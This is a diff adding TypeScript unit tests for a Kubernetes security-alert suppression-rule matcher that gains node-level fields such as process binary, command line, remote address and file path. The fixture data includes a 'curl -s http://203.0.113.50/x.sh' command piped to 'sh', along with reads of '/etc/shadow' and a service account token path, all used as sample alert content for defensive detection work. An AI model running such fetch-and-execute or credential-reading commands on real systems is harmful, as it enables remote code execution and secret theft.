@@ -8,6 +8,7 @@ import {
   suppressionConditionFields,
   type SuppressionCondition,
 } from '../../../shared/alerts/suppressionRule';
+import { nodeAlert } from '../../support/alertFixtures';
 import { execAlert, privilegedPodAlert, suppressionRule } from '../../support/suppressionRuleFixtures';
 
 const NOW = new Date('2026-11-22T12:00:00.000Z');
@@ -119,10 +120,98 @@ describe('matchesSuppressionRule', () => {
   });
 });
 
+describe('matchesSuppressionRule on node alerts', () => {
+  const rule = (condition: SuppressionCondition) => suppressionRule({ alertType: '*', conditions: [condition] });
+  const holds = (condition: SuppressionCondition, alert: Alert) => matchesSuppressionRule(rule(condition), alert, NOW);
+  const connection = nodeAlert({ remote: { address: '198.51.100.7', port: 3333 }, filePath: '/etc/shadow' });
+  const audit = privilegedPodAlert({ sourceIP: '198.51.100.7' });
+
+  it.each([
+    ['node', 'aks-nodepool1-12345678-vmss000000', 'vmss000000'],
+    ['processBinary', '/usr/bin/curl', 'curl'],
+    ['commandLine', '/usr/bin/curl -s http://203.0.113.50/x.sh', '203.0.113.50/x.sh'],
+    ['remoteAddress', '198.51.100.7', '198.51.100'],
+    ['filePath', '/etc/shadow', 'shadow'],
+  ] as const)('when the condition is on %s, then `in` and `contains` hold for the node alert and not for an audit alert', (field, value, part) => {
+    expect(holds({ field, in: [value.toUpperCase()] }, connection)).toBe(true);
+    expect(holds({ field, contains: part }, connection)).toBe(true);
+    expect(holds({ field, in: [`${value}-other`] }, connection)).toBe(false);
+    expect(holds({ field, contains: `${part}-other` }, connection)).toBe(false);
+    expect(holds({ field, in: [value] }, audit)).toBe(false);
+    expect(holds({ field, contains: part }, audit)).toBe(false);
+  });
+
+  it.each([
+    ['namespace', 'payments'],
+    ['pod', 'api-5f6d7c8b9-q7w8e'],
+    ['container', 'api'],
+    ['image', 'contoso.azurecr.io/payments/api:2.1.0'],
+  ] as const)('when the condition is on %s, then it sees the node alert\'s entities', (field, value) => {
+    const alert = nodeAlert({ pod: { namespace: 'payments', name: 'api-5f6d7c8b9-q7w8e', container: 'api', image: 'contoso.azurecr.io/payments/api:2.1.0', workload: 'api' } });
+    expect(holds({ field, in: [value] }, alert)).toBe(true);
+    expect(holds({ field, contains: value.slice(2, -2) }, alert)).toBe(true);
+    expect(holds({ field, in: [value] }, nodeAlert())).toBe(false);
+  });
+
+  it('when the process runs on the host, then pod, container, image and namespace conditions fail and node still holds', () => {
+    const hostProcess = nodeAlert({ pod: null, node: 'aks-system-98765432-vmss000001' });
+    for (const field of ['pod', 'container', 'image', 'namespace'] as const) expect(holds({ field, contains: 'a' }, hostProcess)).toBe(false);
+    expect(holds({ field: 'node', in: ['aks-system-98765432-vmss000001'] }, hostProcess)).toBe(true);
+  });
+
+  it('when the node is only in the extended properties, then node still holds', () => {
+    const alert: Alert = { ...connection, entities: connection.entities.filter((entity) => entity.type !== 'host') };
+    expect(holds({ field: 'node', in: ['aks-nodepool1-12345678-vmss000000'] }, alert)).toBe(true);
+  });
+
+  it('when the binary or command line is the parent\'s, then the condition holds; when only an ancestor\'s, then it does not', () => {
+    expect(holds({ field: 'processBinary', in: ['/bin/sh'] }, connection)).toBe(true);
+    expect(holds({ field: 'commandLine', contains: '| sh' }, connection)).toBe(true);
+    expect(holds({ field: 'processBinary', in: ['/usr/sbin/nginx'] }, connection)).toBe(false);
+    expect(holds({ field: 'commandLine', contains: 'daemon off' }, connection)).toBe(false);
+  });
+
+  it('when an audit alert names a command (exec), then commandLine sees it and processBinary does not', () => {
+    const exec = execAlert();
+    expect(fieldValues(exec, 'commandLine')).toEqual(['sh']);
+    expect(holds({ field: 'commandLine', in: ['sh'] }, exec)).toBe(true);
+    expect(fieldValues(exec, 'processBinary')).toEqual([]);
+  });
+
+  it('when an ip condition names a node alert\'s remote address, then it does not hold (ip is the audit client address), and remoteAddress does not see audit clients', () => {
+    expect(holds({ field: 'ip', in: ['198.51.100.7'] }, connection)).toBe(false);
+    expect(holds({ field: 'ip', in: ['198.51.100.7'] }, audit)).toBe(true);
+    expect(holds({ field: 'remoteAddress', in: ['198.51.100.7'] }, audit)).toBe(false);
+  });
+
+  it('when every condition of a rule for a node alert type holds, then the rule dismisses it; when one fails, then it does not', () => {
+    const conditions: SuppressionCondition[] = [
+      { field: 'namespace', in: ['shop'] },
+      { field: 'processBinary', in: ['/usr/bin/curl'] },
+      { field: 'remoteAddress', in: ['198.51.100.7'] },
+    ];
+    expect(matchesSuppressionRule(suppressionRule({ alertType: 'K8S.NODE_FixtureActivity', conditions }), connection, NOW)).toBe(true);
+    expect(matchesSuppressionRule(suppressionRule({ alertType: 'K8S.NODE_FixtureActivity', conditions: [...conditions, { field: 'filePath', in: ['/etc/passwd'] }] }), connection, NOW)).toBe(false);
+  });
+});
+
 describe('fieldValues', () => {
-  it('when asked for every field, then a realistic alert has a value for each', () => {
+  const nodeFields: readonly string[] = ['node', 'processBinary', 'remoteAddress', 'filePath'];
+
+  it('when asked for every field but the node ones, then a realistic audit alert has a value for each, and none for the node ones', () => {
     const alert = privilegedPodAlert();
-    for (const field of suppressionConditionFields) expect(fieldValues(alert, field).length).toBeGreaterThan(0);
+    for (const field of suppressionConditionFields) {
+      if (nodeFields.includes(field) || field === 'commandLine') expect(fieldValues(alert, field)).toEqual([]);
+      else expect(fieldValues(alert, field).length).toBeGreaterThan(0);
+    }
+  });
+
+  it('when asked for every field but the audit request ones, then a realistic node alert has a value for each', () => {
+    const alert = nodeAlert({ remote: { address: '198.51.100.7', port: 443 }, filePath: '/var/run/secrets/kubernetes.io/serviceaccount/token' });
+    for (const field of suppressionConditionFields) {
+      if (['account', 'ip', 'userAgent', 'resource', 'verb'].includes(field)) expect(fieldValues(alert, field)).toEqual([]);
+      else expect(fieldValues(alert, field).length).toBeGreaterThan(0);
+    }
   });
 
   it('when a pod entity carries a namespace with no namespace entity, then namespace still sees it', () => {
@@ -225,6 +314,11 @@ describe('parseSuppressionRuleBody', () => {
     ['the body is null', null, 'body must be a JSON object.'],
   ])('when %s, then it is refused naming the field', (_situation, body, message) => {
     expect(problem(body)).toContain(message);
+  });
+
+  it.each(['node', 'processBinary', 'commandLine', 'remoteAddress', 'filePath'])('when a condition is on the node field %s, then it is accepted', (field) => {
+    const body = { ...valid, alertType: '*', conditions: [{ field, in: ['x'] }, { field, contains: 'y' }] };
+    expect(parseSuppressionRuleBody(body, NOW)).toMatchObject({ ok: true, value: { conditions: [{ field, in: ['x'] }, { field, contains: 'y' }] } });
   });
 
   it('when the condition field is unknown, then the message lists the fields that are allowed', () => {
